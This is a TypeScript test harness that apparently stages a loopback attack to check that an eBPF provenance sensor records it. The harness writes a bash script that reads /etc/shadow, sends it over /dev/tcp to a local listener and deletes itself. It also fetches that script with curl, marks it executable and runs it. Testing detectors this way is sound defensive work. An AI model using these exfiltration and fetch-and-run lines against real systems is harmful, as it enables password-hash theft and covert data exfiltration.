/**
 * The loopback attack scenario under the real sensor, shared by the graph tests and the ui browser tests:
 *
 *   python3's http.server on 127.0.0.1 serves a script; a shell fetches it with curl into a world-writable
 *   directory, chmod +x, runs it; the script (bash) reads /etc/shadow, opens 127.0.0.1:<listener> with /dev/tcp,
 *   sends what it read to a one-shot TCP listener, and deletes itself (rm "$0").
 *
 * Needs root and a kernel with BTF (the sensor loads its eBPF programs), curl and python3.
 */
import { chmodSync, mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { HTTP_SERVER_PY, LISTENER_PY, readFirstLine, within } from './scenario.ts';
import { startSensor, type RunningSensor, type SensorSummary } from './sensor.ts';

export const ENV = { ...Object.fromEntries(Object.entries(process.env).filter(([k]) => !k.startsWith('PROVMON_'))), PROVMON_CONFIG: '' };

interface Child {
  proc: ReturnType<typeof Bun.spawn>;
  firstLine: Promise<string>;
}

/** A subprocess whose first stdout line says it is ready (and carries its port). */
function spawnReady(cmd: string[], cwd: string): Child {
  const proc = Bun.spawn(cmd, { cwd, stdout: 'pipe', stderr: 'ignore', env: ENV });
  const firstLine = within(readFirstLine(proc), 20_000, '').then((line) => {
    if (!line) throw new Error(`${cmd[0]} ${cmd[1]} did not start`);
    return line;
  });
  return { proc, firstLine };
}

export interface Scenario {
  work: string;
  dropped: string;
  listenerPort: number;
  /** bytes the listener received */
  received: number;
  eventsDir: string;
  summary: SensorSummary;
}

/** Readers of the listener's stdout lines after the first (the byte count). */
async function rest(child: Child): Promise<string> {
  await child.firstLine;
  const reader = (child.proc.stdout as ReadableStream<Uint8Array>).getReader();
  let text = '';
  for (;;) {
    const { value, done } = await reader.read();
    if (done) break;
    text += new TextDecoder().decode(value);
  }
  return text.trim();
}

/** One run: servers up, sensor attached, the attack, sensor stopped (it flushes). Every process it starts is stopped. */
export async function runScenario(): Promise<Scenario> {
  const work = mkdtempSync(join(tmpdir(), 'provmon-attack-'));
  chmodSync(work, 0o755);
  mkdirSync(join(work, 'srv'));
  mkdirSync(join(work, 'dl'));
  const dropped = join(work, 'dl', 'update.sh');
  const children: Child[] = [];
  let sensor: RunningSensor | undefined;
  try {
    const listener = spawnReady(['python3', '-c', LISTENER_PY], work);
    children.push(listener);
    const http = spawnReady(['python3', '-c', HTTP_SERVER_PY, join(work, 'srv')], work);
    children.push(http);
    const listenerPort = Number(await listener.firstLine);
    const httpPort = Number(await http.firstLine);
    writeFileSync(
      join(work, 'srv', 'update.sh'),
      ['#!/bin/bash', "read -r -d '' loot < /etc/shadow", `exec 3<>/dev/tcp/127.0.0.1/${listenerPort}`, 'printf "%s" "$loot" >&3', 'exec 3>&-', 'rm -f "$0"', ''].join('\n'),
    );

    sensor = await startSensor({ args: ['--duration', '60'] });
    const eventsDir = sensor.eventsDir;
    const attack = Bun.spawn(['bash', '-c', `curl -s -o ${dropped} http://127.0.0.1:${httpPort}/update.sh && chmod +x ${dropped} && ${dropped}`], {
      cwd: work,
      env: ENV,
      stdout: 'ignore',
      stderr: 'ignore',
    });
    const exit = await within(attack.exited, 20_000, 'timeout');
    if (exit !== 0) {
      attack.kill('SIGKILL');
      throw new Error(`the attack command ended with ${exit}`);
    }
    const count = await within(rest(listener), 10_000, '-1');
    await Bun.sleep(300); // the last close/exit records reach the ring buffer
    const summary = await sensor.stop();
    sensor = undefined;
    return { work, dropped, listenerPort, received: Number(count), eventsDir, summary };
  } finally {
    if (sensor) await sensor.stop().catch(() => undefined);
    for (const c of children) {
      c.proc.kill('SIGKILL');
      await c.proc.exited;
    }
  }
}


/**
 * Runs the scenario until a capture has no kernel loss (at most `attempts` runs): a loss is counted by the sensor,
 * never silent, and on a machine so busy that the ring buffer overflowed the test runs once more rather than trace
 * a capture known to have gaps. Every run is pushed to `runs` (the caller removes their directories).
 */
export async function captureAttack(runs: Scenario[], attempts = 2): Promise<Scenario> {
  if (!Bun.which('curl')) throw new Error('curl is needed (apt-get install curl)');
  if (!Bun.which('python3')) throw new Error('python3 is needed');
  let run: Scenario | undefined;
  for (let attempt = 0; attempt < attempts; attempt++) {
    run = await runScenario();
    runs.push(run);
    if (run.summary.kernelLost === 0 && run.summary.kernelDropped === 0) break;
  }
  return run!;
}
